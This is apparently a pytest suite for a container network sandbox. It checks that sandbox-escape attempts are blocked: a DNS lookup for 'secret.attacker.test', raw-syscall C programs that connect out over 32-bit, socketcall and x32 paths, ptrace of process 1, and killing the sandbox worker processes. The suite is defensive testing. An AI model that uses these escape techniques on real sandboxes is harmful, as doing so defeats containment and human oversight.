"""Ways out of the cell, in its three forms, judged on the wire; and what becomes of its worker."""

import json
import subprocess

import pytest
from cell_forms import FORMS, LIMIT, CellRunner, left, runner  # noqa: F401
from cell_ways import WAYS
from conftest import IMAGE, SCOPED, SHARED, until
from internet import Wire, address_of

# The default network has none, but what the kernel gives each device.
IPV6 = ("--sysctl", "net.ipv6.conf.all.disable_ipv6=0", "--sysctl", "net.ipv6.conf.default.disable_ipv6=0")

NAMES = [line[4:].split("(")[0] for line in WAYS.splitlines() if line.startswith("def ")]
TRIED = [n for n in NAMES if n not in ("quiet", "aim", "tcp", "throw", "inherited", "answering")]


@pytest.mark.parametrize("way", TRIED)
def test_no_way_out(runner, way, sinks, wire):
    done = runner.run("python3", "-c", WAYS, way, options=LIMIT)
    assert done.ok().out.strip().endswith("tried"), done
    assert left(wire, sinks) == ([], [])


def test_the_same_leave_without_the_cell(lab, internet, sinks, wire):
    """The opposite: so the ways are ways, and the judge sees them."""
    plain = CellRunner(lab, ("--cap-drop=ALL",))
    ways = dict.fromkeys(("sources", "disconnecting", "mapped", "passed", "traced"), sinks)
    for way, judge in (*ways.items(), ("groups", wire)):  # which no router passes on
        internet.reset()
        wire.mark()
        made = plain.arguments(("python3", "-c", WAYS, way), None, None, LIMIT, None, None, ["--egress=off"], False)
        plain.docker("run", "--rm", "--pull=never", *made)
        until(judge.seen, way)


def test_a_connection_at_any_descriptor_is_not_handed_down(runner):
    """Of those that aren't standard ones the command gets none (of these: test_cell.py)."""
    script = (
        "import os, socket; s = socket.create_server(('127.0.0.1', 0));"
        "c = socket.create_connection(s.getsockname()); u = socket.socket(2, 2);"
        "[os.dup2(each.fileno(), fd) for each, fd in ((c, 3), (u, 9), (u, 300), (s, 77))];"
        "os.execv('/sbin/codex-init', ['codex-init', '--', 'sh', '-c', 'readlink /proc/self/fd/* | grep -c socket'])"
    )
    made = [*runner.flags, "--entrypoint", "python3", IMAGE, "-c", script]
    assert runner.docker("run", "--rm", "--pull=never", *made).ok(1).out == "0\n"


def test_ipv6_is_as_strict(runner, sinks, wire):
    for way in ("mapped", "sockets"):
        done = runner.run("python3", "-c", WAYS, way, options=(*LIMIT, *IPV6))
        assert done.ok().out.strip().endswith("tried"), done
    assert left(wire, sinks) == ([], [])


RESOLVER = """
import ctypes, socket, struct
q = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"\\6secret\\10attacker\\4test\\0" + struct.pack(">HH", 1, 1)
servers = [socket.create_server(("127.0.0.1", 0)) for i in range(2)]
connect = ctypes.CDLL(None).connect

def made():
    return socket.socket()

def again():
    s = socket.create_connection(servers[0].getsockname())
    servers[0].accept()
    connect(s.fileno(), bytes(16), 16)  # AF_UNSPEC: as good as new
    return s

def accepted():
    socket.create_connection(servers[1].getsockname()).close()
    s = servers[1].accept()[0]
    connect(s.fileno(), bytes(16), 16)
    return s

def twice():
    server = accepted()
    server.listen()
    socket.create_connection(server.getsockname()).close()
    s = server.accept()[0]
    connect(s.fileno(), bytes(16), 16)
    return s

while True:
    for make in (made, again, accepted, twice):
        try:
            s = make()
            s.settimeout(0.2)
            s.connect(("127.0.0.11", 53))
            s.send(struct.pack(">H", len(q)) + q)
            s.recv(100)
        except OSError as e:
            print(e, flush=True)
"""


def test_where_the_engines_resolver_is_it_does_not_start(runner, network, dns):
    done = runner.run("sh", "-c", "echo ran; getent hosts secret.attacker.test", network=network()).ok(111)
    assert "use the cell: 127.0.0.11: " in done.err and "on the default network it isn't" in done.err, done
    assert done.out == "" and dns.asked("attacker.test") == []


@pytest.mark.parametrize("init", [(), ("--init",)], ids=["process 1", "docker-init"])
def test_where_it_comes_later_the_command_ends(runner, start, network, dns, docker, init):
    box = start("python3", "-c", RESOLVER, options=(*LIMIT, *init))
    box.until_says("refused")  # nobody is there
    assert dns.asked("attacker.test") == []
    docker("network", "connect", network(), box.name).ok()
    assert box.wait() == 137
    assert "connected to a user-defined network" in box.logs()


def test_another_change_of_its_networks_is_none_of_its_business(start, docker):
    box = start("sh", "-c", "echo up; read x", options=["-i"])
    box.until_says("up")
    docker("network", "disconnect", "bridge", box.name).ok()
    docker("network", "connect", "bridge", box.name).ok()
    assert box.exec("true").status == 0


def test_neighbours_and_the_gateway_are_refused(runner, start, wire, sinks):
    script = (
        "import socket\n"
        f"for to in (('{Wire.GATEWAY}', 22), ('{Wire.GATEWAY}', 53), ('172.30.0.2', 80)):\n"
        "    try: socket.create_connection(to, 0.2).send(b'x')\n"
        "    except OSError: pass\n"
    )
    runner.run("python3", "-c", script).ok()
    assert left(wire, sinks) == ([], [])


def build(tmp_path, name, *flags):
    """A program that makes a UDP and a TCP socket by system calls of its own, or ends with 1."""
    source = tmp_path / f"{name}.c"
    source.write_text(
        """
#if defined(__i386__) || defined(INT80)
/* 32-bit calls, which a 64-bit program may make as well. */
static long one(long n, long a, long b, long c)
{
	long r;
	__asm__ volatile("int $0x80" : "=a"(r) : "a"(n), "b"(a), "c"(b), "d"(c) : "memory");
	return r;
}
#define SOCKET 359
#define CONNECT 362
#define EXIT 1
#ifdef SOCKETCALL
static long call(long n, long a, long b, long c)
{
	volatile int to[3] = {a, b, c};
	return n == EXIT ? one(n, a, b, c) : one(102, n == SOCKET ? 1 : 3, (long)to, 0);
}
#else
#define call one
#endif
#else
static long call(long n, long a, long b, long c)
{
	long r;
	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return r;
}
#define SOCKET (41 | X32)
#define CONNECT (42 | X32)
#define EXIT 60
#endif
#ifndef X32
#define X32 0
#endif
void _start(void)
{
	static const unsigned char to[16] = {2, 0, 1, 187, 8, 8, 8, 8};
	int made = 0;
	for (int type = 1; type <= 3; type++) {
		long s = call(SOCKET, 2, type, type == 3 ? 6 : 0);
		made |= s >= 0;
		if (s >= 0 && (type == 1 || call(CONNECT, s, (long)to, 16) == 0))
			call(CONNECT, s, (long)to, 16);
	}
	call(EXIT, !made, 0, 0);
}
"""
    )
    program = tmp_path / name
    subprocess.run(
        ["gcc", "-O1", "-static", "-nostdlib", "-fno-stack-protector", *flags, "-o", program, source],
        check=True,
    )
    program.chmod(0o755)
    tmp_path.chmod(0o755)
    return program


KINDS = {
    "static": (),
    "32 bit": ("-m32",),
    "socketcall": ("-m32", "-DSOCKETCALL"),
    "32-bit calls of a 64-bit program": ("-DINT80", "-no-pie"),
    "x32": ("-DX32=0x40000000",),
}


@pytest.mark.parametrize("kind", KINDS)
def test_programs_of_other_kinds(runner, tmp_path, kind, sinks, wire):
    made = build(tmp_path, "odd", *KINDS[kind])
    runner.run("timeout", "5", "/odd", options=["-v", f"{made}:/odd:ro"])
    assert left(wire, sinks) == ([], [])


def test_they_leave_without_the_cell(lab, internet, tmp_path, sinks):
    """But for those that this kernel can't run: many have no x32, some no 32-bit programs."""
    docker = CellRunner(lab, ()).docker
    made = {kind: build(tmp_path, kind.replace(" ", "_"), *flags) for kind, flags in KINDS.items()}
    # Where there is no network at all.
    runs = [kind for kind in KINDS if subprocess.run(["unshare", "-n", "sh", "-c", '"$0"', made[kind]]).returncode == 0]
    assert "static" in runs
    for kind in runs:
        internet.reset()
        options = ("-v", f"{made[kind]}:/odd:ro", "--entrypoint", "timeout", IMAGE, "2", "/odd")
        docker("run", "--rm", "--pull=never", *options)
        until(sinks.seen, kind)


ATTACH = "import ctypes; print(ctypes.CDLL(None).ptrace(16, 1, 0, 0))"


@pytest.mark.parametrize("form", FORMS)
def test_a_process_one_that_the_command_could_trace_ends_the_start(lab, internet, tmp_path, form):
    """The engine's, with the command's user id, on a kernel or under a profile without Landlock."""
    profile = tmp_path / "profile.json"
    without = {"names": ["landlock_create_ruleset"], "action": "SCMP_ACT_ERRNO", "errnoRet": 38}
    profile.write_text(json.dumps({"defaultAction": "SCMP_ACT_ALLOW", "syscalls": [without]}))
    told = ("--security-opt", f"seccomp={profile}")
    runner = CellRunner(lab, FORMS[form])
    done = runner.run("python3", "-c", ATTACH, options=(*told, "--init"))
    if form in SHARED:
        done.ok(111)
        assert done.out == "" and "--init: the command could trace process 1" in done.err, done
    else:
        assert done.ok().out == "-1\n"
    for options in ((*told,), ("--init",) if SCOPED else ()):
        assert runner.run("python3", "-c", ATTACH, options=options).ok().out == "-1\n", options


# ---- Workers that are ended ------------------------------------------------------------------


def test_workers_that_are_killed_come_back(runner, sinks):
    """Where the command has the workers' uid it may end them; it pays for that alone."""
    done = runner.shell(
        "for c in /proc/[0-9]*/comm; do grep -q ^codex- $c && p=${c%/comm} && kill -9 ${p#/proc/}; done;"
        "sleep 1; curl -sS -m 50 --retry 5 --retry-all-errors https://api.openai.com/",
        options=LIMIT,
    ).ok()
    assert done.lines()[-1] == "this is api.openai.com"
    assert sinks.seen() == [("tcp", address_of("api.openai.com"), 443)]


def test_workers_that_are_stopped_go_on(runner, sinks):
    done = runner.shell(
        "for c in /proc/[0-9]*/comm; do grep -q ^codex- $c && p=${c%/comm} && kill -STOP ${p#/proc/}; done;"
        "curl -sS -m 50 https://api.openai.com/",
    ).ok()
    assert done.lines()[-1] == "this is api.openai.com"


def test_calls_that_wait_when_the_worker_is_stopped_or_killed(start, runner, sinks, wire):
    """By root or, where there is none, by its own uid. Each is answered, and those that come after."""
    script = WAYS + """
made = [0]
def make():
    end = time.monotonic() + 4
    while time.monotonic() < end:
        s = quiet(tcp)
        if isinstance(s, socket.socket):
            throw(s)
            made[0] += 1
threads = [threading.Thread(target=make) for _ in range(4)]
print("begun", flush=True)
for t in threads: t.start()
for t in threads: t.join()
before = made[0]
for _ in range(100):
    if isinstance(quiet(tcp), socket.socket): break
    time.sleep(0.1)
else: sys.exit("no socket any more")
print("done", before > 10)
"""
    script = script.replace('globals()[sys.argv[1]]()\nprint("tried")\n', "")
    box = start("python3", "-c", script, options=LIMIT).until_says("begun")
    user = "1000" if "--user" in runner.flags else "0"
    find = "for c in /proc/[0-9]*/comm; do [ $(cat $c) != codex-cell ] || { p=${c%/comm}; kill -$1 ${p#/proc/}; }; done"
    # A stop by root is meant, and stays.
    for sign in ("STOP", "KILL", "KILL", "STOP", "CONT"):
        box.exec("sh", "-c", find, "sh", sign, user=user)
    assert box.wait() == 0, box.logs()
    assert "done True" in box.logs()
    assert left(wire, sinks) == ([], [])


def test_a_worker_that_is_killed_too_often_stays_down(lab, internet, start, sinks, wire):
    """No socket can be had then, and none is without the cell."""
    plain = CellRunner(lab, FORMS["no capability"])
    script = """
import errno, os, socket, time
def workers():
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            if open(f"/proc/{pid}/comm").read() == "codex-cell\\n": yield int(pid)
        except OSError: pass
for _ in range(400):
    for pid in workers():
        try: os.kill(pid, 9)
        except OSError: pass
    time.sleep(0.05)
try: socket.socket(); print("had one")
except OSError as e: print(errno.errorcode[e.errno])
"""
    done = plain.run("python3", "-c", script, timeout=120).ok()
    if "had one" not in done.out:  # a kernel with Landlock's scopes keeps the workers from it
        assert "ENOSYS" in done.out, done
    assert left(wire, sinks) == ([], [])


def test_when_it_stays_down_nobody_else_answers(start, runner, sinks, wire):
    box = start("python3", "-c", WAYS, "answering", options=LIMIT).until_says("begun")
    user = "1000" if "--user" in runner.flags else "0"
    kill = "for c in /proc/[0-9]*/comm; do [ $(cat $c) != codex-cell ] || { p=${c%/comm}; kill -9 ${p#/proc/}; }; done"

    def ended():
        box.exec("sh", "-c", kill, user=user)
        return box.inspect(".State.Running") != "true"

    until(ended, box.logs, 300)
    assert box.wait() == 0 and "tried" in box.logs(), box.logs()
    assert left(wire, sinks) == ([], [])
